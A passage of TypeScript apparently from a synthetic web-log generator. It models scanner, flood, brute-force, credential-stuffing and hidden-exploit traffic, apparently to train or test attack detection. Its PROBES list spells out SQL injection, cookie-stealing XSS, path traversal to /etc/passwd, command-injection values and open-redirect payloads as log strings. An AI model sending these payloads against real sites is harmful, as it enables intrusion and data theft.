    const param = w.pick(['/products/view.php?id=', '/blog/post.php?id=', '/rooms?id=', '/index.php?page=']) + w.int(1, 60);
    // One request of the scan: [method, target, status, agent].
    const next = (k: number): [string, string, number, string] => {
      const r = w.rand();
      if (k < 3)
        return ['GET', ['/', '/robots.txt', '/sitemap.xml'][k]!, k === 2 ? 404 : 200, agent || 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:getinfo)'];
      switch (kind) {
        case 'nikto': {
          const id =
            w.rand() < 0.1
              ? w.pick(['map_codes', 'headers', 'embedded', 'sitefiles', 'apacheusers', 'multiple_index', 'dictionary'])
              : String(w.int(1, 7999)).padStart(6, '0');
          const test = `Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:${id})`;
          if (r < 0.3) return ['GET', `/${chars(w, 8)}${w.pick(['.php', '.asp', '.cgi', '.html', '/', '.pl', '.jsp'])}`, 404, test];
          if (r < 0.6) return [w.rand() < 0.9 ? 'GET' : 'HEAD', w.pick(NIKTO_FILES), w.pick([404, 404, 404, 403, 200]), test];
          if (r < 0.9) return ['GET', w.pick(NIKTO_ATTACKS), w.pick([404, 404, 400, 200]), test];
          return [
            w.pick(['OPTIONS', 'TRACE', 'PUT', 'DELETE', 'PROPFIND', 'DEBUG', 'TRACK']),
            `/${w.rand() < 0.5 ? '' : chars(w, 8)}`,
            w.pick([405, 501, 200, 400]),
            test,
          ];
        }
        case 'acunetix':
        case 'zap': {
          if (k < 150 && r < 0.7) return ['GET', w.page(), 200, agent];
          const list = kind === 'zap' ? ZAP : ACUNETIX;
          const target = fill(w.pick(list));
          return [
            w.rand() < 0.15 ? 'POST' : 'GET',
            target,
            target.startsWith('/search') || target.startsWith('/blog') ? w.pick([200, 200, 400]) : w.pick([404, 404, 400, 500, 200, 403]),
            agent,
          ];
        }
        case 'sqlmap':
          return ['GET', `${param}${fill(w.pick(SQLMAP))}`, w.rand() < 0.85 ? 200 : 500, agent];
        case 'wpscan': {
          if (r < 0.85)
            return [
              'GET',
              `/wp-content/plugins/${w.rand() < 0.3 ? w.pick(PLUGINS) : `${w.pick(DIR_WORDS)}-${w.pick(WORDS)}${w.rand() < 0.3 ? '-pro' : ''}`}/readme.txt`,
              w.rand() < 0.97 ? 404 : 200,
              agent,
            ];
          if (r < 0.92) return ['GET', `/?author=${w.int(1, 20)}`, w.pick([301, 404, 200]), agent];
          return [
            'GET',
            w.pick([
              '/wp-json/wp/v2/users',
              '/readme.html',
              '/wp-content/debug.log',
              '/wp-config.php~',
              '/wp-config.php.bak',
              '/xmlrpc.php',
              '/wp-cron.php',
              '/wp-content/uploads/',
              '/license.txt',
            ]),
            w.pick([404, 404, 200, 403, 405]),
            agent,
          ];
        }
        case 'dirbuster':
          return ['GET', `/${w.pick(DIR_WORDS)}${w.rand() < 0.3 ? w.int(1, 9) : ''}${w.pick(DIR_EXT)}`, w.rand() < 0.93 ? 404 : w.pick([301, 403, 200]), agent];
      }
    };
    const errorPage = errorPages(w);
    const s = function* (): Generator<Request> {
      let t = w.start + w.int(0, 20) * hour + w.int(0, 59) * minute;
      for (let k = 0; k < count && t < end(w); k++) {
        const [method, target, status, a] = next(k);
        const error = errorPage(status, target);
        const referer = kind === 'acunetix' || kind === 'zap' ? `${w.site}/` : '-';
        yield req(t, method, target, status, method === 'HEAD' || status === 301 ? 0 : status === 200 ? w.int(800, 40000) : error, referer, a);
        t += Math.max(1, Math.round((1000 / perSecond) * (0.2 + 1.6 * w.rand())));
        // Scanners pause between phases (a new plugin, a new parameter, the user looking at results).
        if (w.rand() < 0.002) t += w.int(10, 300) * second;
      }
    };
    w.add('scan', s(), { v6: w.rand() < 0.2, family: 'lone-scanner' });
  },
};

/** The site's own page assets, as the everyday visitors load them. */
const SITE_ASSETS = ['/static/css/site.css', '/static/js/app.js', '/static/js/vendor.js', '/favicon.ico', '/static/fonts/inter.woff2'];

const browserFlood: Family = {
  name: 'browser-flood',
  attack: true,
  description:
    'tens of addresses loading pages like browsers (real agents, assets, referers) at 60-300 requests a minute each for 5-20 minutes, while the site answers more and more 502/503/504',
  add(w, size) {
    const members = Math.max(10, Math.round(w.int(20, 80) * size));
    const t0 = w.start + w.int(1, 22) * hour + w.int(0, 59) * minute;
    const minutes = w.int(5, 20);
    const nets = Array.from({ length: w.int(2, 10) }, () => w.net());
    const pages = ['/', '/search?q=' + w.pick(WORDS), ...Array.from({ length: w.int(1, 6) }, () => w.page())];
    const worst = 0.3 + 0.6 * w.rand();
    const error = errorPages(w);
    // How overloaded the site is at t: errors grow from none to `worst` as the flood goes on.
    const failing = (t: number) => worst * Math.min(1, Math.max(0, (t - t0) / (minutes * minute))) ** 1.5;
    for (let i = 0; i < members; i++) {
      const agent = w.browser();
      const rate = w.int(60, 300);
      const start = t0 + w.int(0, 120) * second;
      const stop = start + (minutes + w.int(-2, 2)) * minute;
      const s = function* (): Generator<Request> {
        let here = w.pick(['https://www.google.com/', '-', `${w.site}/`]);
        for (let t = start; t < stop;) {
          const page = w.pick(pages);
          const assets = SITE_ASSETS.slice(0, w.int(2, SITE_ASSETS.length));
          let a = t;
          for (const target of [page, ...assets]) {
            const bad = w.rand() < (target === page ? failing(a) : failing(a) / 2);
            const status = bad ? w.pick([502, 503, 503, 504]) : target !== page && w.rand() < 0.3 ? 304 : 200;
            yield req(
              a,
              'GET',
              target,
              status,
              bad ? error(status, target) : status === 304 ? 0 : w.int(500, 60000),
              target === page ? here : w.site + page,
              agent,
            );
            a += w.int(10, 300);
          }
          here = w.site + page;
          t += Math.round(((1 + assets.length) * 60000 * (0.6 + 0.8 * w.rand())) / rate);
          t = Math.max(t, a);
        }
      };
      w.add('flood', s(), { v6: w.rand() < 0.1, net: w.rand() < 0.6 ? w.pick(nets) : undefined, family: 'browser-flood' });
    }
  },
};

/** Payloads a person probing by hand puts in a query string (NUM: a number). */
const PROBES = [
  (p: string) => `${p}?id=NUM'`,
  (p: string) => `${p}?id=NUM%27%20OR%20%271%27%3D%271`,
  (p: string) => `${p}?id=NUM%20AND%201%3D2%20UNION%20SELECT%201,2,3,table_name%20FROM%20information_schema.tables--`,
  (p: string) => `${p}?id=NUM%27%20AND%20SLEEP(5)--%20-`,
  () => '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  () => '/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E',
  () => '/search?q=%7B%7B7*7%7D%7D',
  () => '/search?q=%24%7B7*7%7D',
  () => "/search?q=rooms'%20--",
  () => '/download?file=../../../../etc/passwd',
  () => '/download?file=....%2F%2F....%2F%2F....%2F%2Fetc%2Fpasswd',
  () => '/download?file=..%5C..%5C..%5Cwindows%5Cwin.ini',
  () => '/login?next=%2F%2Fevil.example%2F',
  () => '/login?redirect=https:%2F%2Fevil.example',
  (p: string) => `${p}?lang=../../../../../../proc/self/environ`,
  () => '/contact?email=test%40example.org%0d%0aBcc:%20victim%40example.org',
  () => '/api/v1/users?username[$ne]=x&password[$ne]=x',
  (p: string) => `${p}?callback=%3Csvg%2Fonload%3Dalert(1)%3E`,
  () => '/rooms?date=2026-03-01%3Bid',
  () => '/rooms?date=%60id%60',
];

const hiddenExploits: Family = {
  name: 'hidden-exploits',
  attack: true,
  description:
    'clients that browse like visitors (pages, assets, referers) and in between send 3-10 SQL injection, XSS, traversal, SSTI or redirect payloads in query strings',
  add(w, size) {
    const error = errorPages(w);
    for (let i = 0, n = Math.max(3, Math.round(w.int(5, 20) * size)); i < n; i++) {
      const agent = w.browser();
      const payloads = w.int(3, 10);
      const views = w.int(8, 40);
      // Which views are followed by a payload.
      const after = new Set(
        shuffle(
          w,
          Array.from({ length: views }, (_, k) => k),
        ).slice(0, payloads),
      );
      const s = function* (): Generator<Request> {
        let t = awake(w, 8, 23);
        let here = w.pick(['https://www.google.com/', '-']);
        const seen = new Set<string>();
        for (let v = 0; v < views && t < end(w); v++) {
          const page = w.page();
          const load = pageLoad(w, t, agent, page, here, SITE_ASSETS, seen);
          yield* load;
          t = load[load.length - 1]!.time;
          here = w.site + page;
          if (after.has(v)) {
            t += w.int(5, 90) * second;
            const target = w
              .pick(PROBES)(page.split('?')[0]!)
              .replace(/NUM/g, () => String(w.int(1, 250)));
            const status = w.pick([200, 200, 200, 400, 403, 404, 500]);
            yield req(t, 'GET', target, status, status === 200 ? w.int(3000, 50000) : error(status, target), here, agent);
          }
          t += w.int(5, 120) * second;
        }
      };
      w.add('exploit', s(), { v6: w.rand() < 0.1, family: 'hidden-exploits' });
    }
  },
};

// ---------------------------------------------------------------------------------------------------------
// Attacks: password guessing that does not look like a login form.

const xmlrpcBrute: Family = {
  name: 'xmlrpc-brute',
  attack: true,
  description:
    'WordPress XML-RPC brute force: user enumeration, then POST /xmlrpc.php answered 200 with the same small fault every time, from one to three hosts for hours or from a botnet a few dozen each',
  add(w, size) {
    const botnet = w.rand() < 0.5;
    const hosts = botnet ? Math.max(5, Math.round(w.int(10, 60) * size)) : w.int(1, 3);
    const t0 = w.start + w.int(0, 18) * hour;
    const nets = Array.from({ length: w.int(1, 6) }, () => w.net());
    // A wrong password is one fault (about 400 bytes); a system.multicall of many is a long list of them.
    const multicall = w.rand() < 0.4;
    for (let i = 0; i < hosts; i++) {
      const agent = w.pick([
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36',
        'Mozilla/5.0 (Windows NT 6.1; rv:34.0) Gecko/20100101 Firefox/34.0',
        'python-requests/2.27.1',
        'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:62.0) Gecko/20100101 Firefox/62.0',
        'WordPress/5.9.3; https://x.example',
      ]);
      const size1 = multicall ? w.int(20000, 60000) : w.int(403, 412);
      const posts = botnet ? w.int(10, 150) : w.int(300, 2500);
      const gap = botnet ? () => w.int(20, 180) * second : () => w.int(1, 20) * second;
      const s = function* (): Generator<Request> {
        let t = t0 + (botnet ? w.int(0, 240) * minute : w.int(0, 60) * minute);
        if (!botnet || w.rand() < 0.3) {
          for (const [target, status, bytes] of [
            ['/?author=1', 301, 0],
            ['/wp-json/wp/v2/users', 200, w.int(600, 3000)],
            ['/xmlrpc.php', 405, 42],
          ] as const) {
            yield req(t, 'GET', target, status, bytes, '-', agent);
            t += w.int(1, 5) * second;
          }
        }
        for (let k = 0; k < posts && t < end(w); k++) {
          const limited = !botnet && w.rand() < 0.01;
          yield req(t, 'POST', '/xmlrpc.php', limited ? 503 : 200, limited ? w.int(300, 500) : size1, '-', agent);
          t += gap();
        }
      };
      w.add('brute-force', s(), { net: botnet && w.rand() < 0.5 ? w.pick(nets) : undefined, family: 'xmlrpc-brute' });
    }
  },
};

const tokenStuffing: Family = {
  name: 'token-stuffing',
  attack: true,
  description:
    "credential stuffing against the API's token endpoint through a residential proxy pool: hundreds of addresses, 1-15 POSTs each answered 401 (the odd 200 and 429), agents copied from the mobile app",
  add(w, size) {
    const path = w.pick(['/oauth/token', '/api/v1/auth/token', '/api/v2/login', '/api/mobile/v3/session']);
    const t0 = w.start + w.int(0, 20) * hour;
    const window = w.int(1, 6) * hour;
    const app = w.pick(['Hutbook', 'Alpinist', 'TrailMate', 'Stayfinder']);
    const agents = [
      'okhttp/4.9.3',
      'okhttp/4.12.0',
      `${app}/${w.int(1000, 9999)} CFNetwork/1410.0.3 Darwin/22.6.0`,
      'Dalvik/2.1.0 (Linux; U; Android 12; SM-G991B Build/SP1A.210812.016)',
      ...BROWSERS,
    ];
    const fixedAgent = w.rand() < 0.5;
    // The API's refusals: one JSON body each ({"error":"invalid_grant",...}).
    const refused = new Map([401, 400, 429].map((s) => [s, w.int(45, 140)]));
    const shared = w.pick(agents);
    for (let i = 0, n = Math.max(20, Math.round(w.int(100, 600) * size)); i < n; i++) {
      const tries = w.int(1, 15);
      const s = function* (): Generator<Request> {
        let t = t0 + Math.floor(w.rand() * Math.min(window, end(w) - t0 - hour));
        for (let k = 0; k < tries && t < end(w); k++) {
          const agent = fixedAgent ? shared : w.pick(agents);
          const r = w.rand();
          const status = k >= 8 && r < 0.4 ? 429 : r < 0.015 ? 200 : w.rand() < 0.05 ? 400 : 401;
          yield req(t, 'POST', path, status, status === 200 ? w.int(900, 1600) : refused.get(status)!, '-', agent);
          if (status === 200) {
            // A hit: the account looked at before the next.
            for (const p of ['/api/v1/me', '/api/v1/account/payment-methods', '/api/v1/orders?limit=10'])
              yield req((t += w.int(200, 1500)), 'GET', p, 200, w.int(300, 5000), '-', agent);
          }
          t += w.int(2, 120) * second;
        }
      };
      w.add('brute-force', s(), { v6: w.rand() < 0.3, family: 'token-stuffing' });
    }
  },
};

/**
 * A family whose streams end with the day: whatever a stream would send after midnight is left out (so a
 * session begun late ends with the log).
 */
function bounded(f: Family): Family {
  return {
    ...f,
    add(w, size) {
      const from = w.streams.length;
      f.add(w, size);
      const stop = end(w);
      for (let k = from; k < w.streams.length; k++) {
        const [actor, stream] = w.streams[k]!;
        w.streams[k] = [
          actor,
          (function* () {
            for (let n = stream.next(); !n.done && n.value.time < stop; n = stream.next()) yield n.value;
          })(),
        ];
      }
    },
  };
}

export const MORE_FAMILIES: readonly Family[] = [
  spaApi,
  webhooks,
  monitoringFleet,
  wpAdmins,
  joomlaAdmin,
  nextcloudUsers,
  shoppersLogin,
  mobileApp,
  ciArtifacts,
  linkPreviews,
  ownInfra,
  headerExploits,
  singleShot,
  worm,
  loneScanner,
  browserFlood,
  hiddenExploits,
  xmlrpcBrute,
  tokenStuffing,
].map(bounded);
